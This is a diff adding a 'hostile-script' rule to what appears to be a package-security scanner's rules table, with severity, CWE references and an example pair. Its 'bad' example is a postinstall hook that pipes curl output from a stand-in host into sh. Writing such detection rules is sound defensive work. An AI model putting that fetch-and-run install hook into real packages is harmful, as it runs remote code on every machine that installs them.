@@ -41,6 +41,18 @@ export const RULES = {
       good: '__init__.py: from .core import go',
     },
   },
+  'hostile-script': {
+    title: 'Installing runs a harmful script',
+    severity: 'critical',
+    message: '{when}, {file} runs and {does}',
+    why: 'The package manager runs the script on every machine that installs the package.',
+    fix: FIX,
+    references: [CWE_494, CWE_506],
+    example: {
+      bad: '"postinstall": "sh setup.sh"    setup.sh: curl -s https://host.invalid/i | sh',
+      good: '"install": "node-gyp rebuild"',
+    },
+  },
   'split-theft': {
     title: 'One file collects, another sends',
     severity: 'critical',
